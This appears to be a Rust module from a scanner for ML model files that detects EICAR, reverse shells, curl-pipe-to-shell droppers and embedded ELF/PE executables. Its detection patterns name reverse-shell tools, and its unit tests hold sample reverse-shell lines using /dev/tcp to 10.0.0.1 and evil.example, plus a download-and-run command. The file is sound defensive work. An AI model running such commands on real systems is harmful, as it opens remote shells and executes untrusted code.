//! Built-in byte-pattern rules, in Rust rather than YARA (see docs/scanning.md for why): the
//! EICAR test string, reverse shells, download-and-run droppers, and executables (ELF, PE)
//! embedded in model files. Text rules run over every blob that no format scanner claimed;
//! model rules run over pickles and HDF5 files, where an embedded executable has no business.

use std::io;

use memchr::memmem;

use crate::{Ctx, Loc, Severity, Source};

const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/// `(rule, pattern, severity)`.
const PATTERNS: &[(&str, &[u8], Severity)] = &[
    ("rules/eicar", EICAR, Severity::Malicious),
    ("rules/reverse-shell", b"bash -i >&", Severity::Malicious),
    ("rules/reverse-shell", b"nc -e /bin/", Severity::Malicious),
    ("rules/reverse-shell", b"ncat -e /bin/", Severity::Malicious),
    (
        "rules/reverse-shell",
        b"pty.spawn(\"/bin/",
        Severity::Malicious,
    ),
    (
        "rules/reverse-shell",
        b"pty.spawn('/bin/",
        Severity::Malicious,
    ),
    (
        "rules/download-and-run",
        b"powershell -enc",
        Severity::Suspicious,
    ),
];

const CHUNK: usize = 4 << 20;
const OVERLAP: usize = 256;

/// Runs `f` over the source in overlapping chunks (`f(chunk, offset_of_chunk)`).
fn chunks(src: &dyn Source, mut f: impl FnMut(&[u8], u64)) -> io::Result<()> {
    let len = src.len();
    let mut off = 0u64;
    let mut buf = vec![0u8; CHUNK.min(len as usize)];
    while off < len {
        let n = ((len - off) as usize).min(CHUNK);
        src.read_at(off, &mut buf[..n])?;
        f(&buf[..n], off);
        if off + n as u64 >= len {
            break;
        }
        off += (n - OVERLAP) as u64;
    }
    Ok(())
}

/// `/dev/tcp/HOST/PORT`, the bash redirection reverse shells use. The bare prefix is not
/// enough: the bash binary itself contains the string `/dev/tcp/` (it implements it), so
/// only a concrete host and port count. Returns the offset.
fn dev_tcp(b: &[u8]) -> Option<usize> {
    memmem::find_iter(b, b"/dev/tcp/").find(|&at| {
        let rest = &b[at + 9..];
        let host = rest
            .iter()
            .take(254)
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':'))
            .count();
        host > 0
            && rest.get(host) == Some(&b'/')
            && rest.get(host + 1).is_some_and(|c| c.is_ascii_digit())
    })
}

/// `curl ... | sh` on one line.
fn download_and_run(b: &[u8]) -> bool {
    for tool in [&b"curl "[..], b"wget "] {
        for at in memmem::find_iter(b, tool) {
            let line_end = b[at..]
                .iter()
                .take(400)
                .position(|c| *c == b'\n')
                .map(|e| at + e)
                .unwrap_or((at + 400).min(b.len()));
            let line = &b[at..line_end];
            for sink in [
                &b"| sh"[..],
                b"|sh",
                b"| bash",
                b"|bash",
                b"| sudo sh",
                b"| python",
            ] {
                if memmem::find(line, sink).is_some() {
                    return true;
                }
            }
        }
    }
    false
}

fn text_rules(ctx: &mut Ctx, src: &dyn Source, loc: &Loc, model: bool) -> io::Result<()> {
    let mut hits: Vec<(&str, Severity, String)> = Vec::new();
    chunks(src, |b, off| {
        for (rule, pat, sev) in PATTERNS {
            if let Some(i) = memmem::find(b, pat) {
                hits.push((
                    rule,
                    *sev,
                    format!(
                        "{:?} at offset {}",
                        String::from_utf8_lossy(pat),
                        off + i as u64
                    ),
                ));
            }
        }
        if let Some(i) = dev_tcp(b) {
            hits.push((
                "rules/reverse-shell",
                Severity::Malicious,
                format!("\"/dev/tcp/HOST/PORT\" at offset {}", off + i as u64),
            ));
        }
        if download_and_run(b) {
            let sev = if model {
                Severity::Malicious
            } else {
                Severity::Suspicious
            };
            hits.push((
                "rules/download-and-run",
                sev,
                "downloads and pipes into a shell".into(),
            ));
        }
        if model {
            if let Some(what) = embedded_executable(b) {
                hits.push(("rules/embedded-executable", Severity::Malicious, what));
            }
        }
    })?;
    for (rule, sev, detail) in hits {
        ctx.add(loc, sev, rule, None, detail);
    }
    Ok(())
}

/// An ELF header (with plausible class, data and version bytes) or a PE image (`MZ` with a
/// `PE\0\0` signature where `e_lfanew` points).
fn embedded_executable(b: &[u8]) -> Option<String> {
    for at in memmem::find_iter(b, b"\x7fELF") {
        if let Some(h) = b.get(at..at + 20) {
            if matches!(h[4], 1 | 2)
                && matches!(h[5], 1 | 2)
                && h[6] == 1
                && matches!(h[16], 1..=4)
                && h[17] == 0
            {
                return Some(format!("ELF header at offset {at}"));
            }
        }
    }
    for at in memmem::find_iter(b, b"MZ") {
        if let Some(l) = b.get(at + 0x3c..at + 0x40) {
            let lfanew = u32::from_le_bytes([l[0], l[1], l[2], l[3]]) as usize;
            if (0x40..0x1000).contains(&lfanew)
                && b.get(at + lfanew..at + lfanew + 4) == Some(b"PE\0\0")
            {
                return Some(format!("PE image at offset {at}"));
            }
        }
    }
    None
}

/// Rules for blobs no format claimed (text, scripts, unknown binaries).
pub(crate) fn scan_text(ctx: &mut Ctx, src: &dyn Source, loc: &Loc) -> io::Result<()> {
    text_rules(ctx, src, loc, false)
}

/// Rules for model files: text rules at model severity plus embedded executables.
pub(crate) fn scan_model_bytes(ctx: &mut Ctx, src: &dyn Source, loc: &Loc) -> io::Result<()> {
    text_rules(ctx, src, loc, true)
}

#[cfg(test)]
mod tests {
    use super::*;
    #[test]
    fn finds_dropper_and_elf() {
        assert!(download_and_run(b"x = 'curl -s http://e/x | sh'"));
        assert!(!download_and_run(b"curl http://e/x -o f\nsh f"));
        let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
        elf.extend([0u8; 64]);
        assert!(embedded_executable(&elf).is_some());
    }
}

#[cfg(test)]
mod dev_tcp_tests {
    #[test]
    fn needs_a_host_and_port() {
        assert!(super::dev_tcp(b"bash -c 'sh >& /dev/tcp/10.0.0.1/4444 0>&1'").is_some());
        assert!(super::dev_tcp(b"exec 5<>/dev/tcp/evil.example/80").is_some());
        // What the bash binary itself contains.
        assert!(super::dev_tcp(b"\0/dev/tcp/\0/dev/udp/\0").is_none());
        assert!(super::dev_tcp(b"/dev/tcp/host/").is_none());
    }
}
